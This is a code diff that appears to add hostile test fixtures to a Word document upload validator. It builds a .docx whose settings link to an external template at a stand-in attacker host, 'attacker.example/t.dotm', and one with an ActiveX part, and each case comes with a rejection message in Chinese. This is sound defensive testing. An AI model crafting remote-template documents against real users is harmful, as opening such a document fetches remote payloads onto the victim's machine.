@@ -92,6 +92,19 @@ def ebcdic_part() -> bytes:
     return rebuild(data, replace={DOCUMENT: (prolog + body).encode("cp037", "xmlcharrefreplace")})
 
 
+def remote_template() -> bytes:
+    """A macro-free .docx whose settings fetch a template from elsewhere when opened."""
+    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
+            '//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+            'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
+    return rebuild(word_file(), add={"word/_rels/settings.xml.rels": rels.encode()})
+
+
+def activex_control() -> bytes:
+    return rebuild(word_file(), add={"word/activeX/activeX1.xml": b"<ax/>"})
+
+
 def _retyped(data: bytes, content_type: str, add: dict[str, bytes] | None = None) -> bytes:
     types = _part(data, "[Content_Types].xml").replace(MAIN_TYPE, content_type)
     return rebuild(data, replace={"[Content_Types].xml": types.encode()}, add=add)
@@ -120,6 +133,8 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     "external entity": (external_entity, "XML 实体声明（DOCTYPE/ENTITY）"),
     "entities in UTF-7": (utf7_entity, "不允许的字符编码"),
     "EBCDIC part": (ebcdic_part, "不允许的字符编码"),
+    "remote template": (remote_template, "指向外部的模板或对象链接"),
+    "ActiveX control": (activex_control, "ActiveX"),
     "macro document": (macro_document, "不接受含宏的文档"),
     "template": (template, "文件不是 Word（.docx）格式"),
     "corrupt zip": (corrupt_zip, "文件不是 Word（.docx）格式，或已损坏"),
